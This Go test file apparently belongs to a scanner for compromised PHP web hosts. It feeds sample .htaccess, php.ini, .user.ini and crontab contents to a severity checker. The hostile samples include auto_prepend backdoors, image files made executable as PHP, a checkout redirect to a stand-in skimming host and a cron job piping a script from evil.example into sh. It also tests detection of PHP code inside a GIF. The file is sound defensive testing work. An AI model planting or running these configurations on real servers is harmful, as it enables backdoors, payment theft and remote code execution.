package php

import (
	"testing"

	"github.com/tillwatch/tillwatch"
)

func TestSettings(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name    string
		uploads bool
		text    string
		want    tillwatch.Severity
		kind    Kind
	}{
		{".user.ini", false, "; ours\nauto_prepend_file = /var/www/html/upload/logo.gif\n", tillwatch.High, Prepend},
		{".htaccess", false, "php_value auto_prepend_file \"/tmp/.sess\"\n", tillwatch.High, Prepend},
		{"php.ini", false, "auto_append_file=https://evil.example/x.txt", tillwatch.High, Prepend},
		{".htaccess", false, "php_value auto_prepend_file /home/shop/wordfence-waf.php\n", tillwatch.Low, Prepend},
		{".htaccess", false, "php_value auto_prepend_file none\n", tillwatch.Info, ""},
		{".htaccess", false, "AddType application/x-httpd-php .jpg .png\n", tillwatch.High, Prepend},
		{".htaccess", false, "<FilesMatch \"logo.gif\">\n  SetHandler application/x-httpd-php\n</FilesMatch>\n", tillwatch.High, Prepend},
		{".htaccess", true, "SetHandler application/x-httpd-php\n", tillwatch.Medium, Prepend},
		{".htaccess", true, "php_flag engine on\n", tillwatch.Medium, Prepend},
		{".htaccess", true, "php_flag engine off\n", tillwatch.Info, ""},
		{".htaccess", false, "AddHandler application/x-httpd-php74 .php .phtml\nAddType text/css .css\n", tillwatch.Info, ""},
		{".htaccess", false, "<FilesMatch \\.php$>\nSetHandler \"proxy:unix:/run/php/fpm.sock|fcgi://localhost\"\n</FilesMatch>\n", tillwatch.Info, ""},
		{".htaccess", false, "RewriteEngine on\nRewriteRule ^shopping/payment(.*)$ https://pay.evil.example/$1 [R=302,L]\n", tillwatch.Medium, Skimmer},
		{".htaccess", false, "RewriteRule ^shopping/payment$ https://api.provider.example/pay [R,L]\nRewriteRule ^checkout(.*)$ https://%{HTTP_HOST}/checkout$1 [R=301,L]\n", tillwatch.Info, ""},
		{".htaccess", false, "RewriteRule ^(.*)$ index.php [QSA,L]\nRedirect 301 /old https://shop.example/new\n", tillwatch.Info, ""},
		{"crontab", false, "*/5 * * * * curl -s http://evil.example/a.sh | sh\n", tillwatch.High, Webshell},
		{"crontab", false, "0 3 * * * /usr/bin/php /var/www/html/cron.php > /dev/null 2>&1\n", tillwatch.Info, ""},
	} {
		a := Settings(c.name, c.uploads, []byte(c.text), Options{Own: "shop.example", Provider: provider})
		if got := severity(a); got != c.want || c.kind != "" && a.Verdicts[0].Kind != c.kind {
			t.Errorf("%s %q: %v, want %s", c.name, c.text, a.Verdicts, c.want)
		}
	}
}

func TestCodeInAPicture(t *testing.T) {
	t.Parallel()
	if _, found := Stray("logo.gif", []byte("GIF89a\x01\x00<?php\necho 1;")); !found {
		t.Error("code in a picture was not found")
	}
	for name, content := range map[string]string{"logo.gif": "GIF89a <?xpacket begin", "notes.txt": "<?php echo 1;", "a.jpg": "\xff\xd8 <?=\x01"} {
		if v, found := Stray(name, []byte(content)); found {
			t.Errorf("%s: %v", name, v)
		}
	}
}
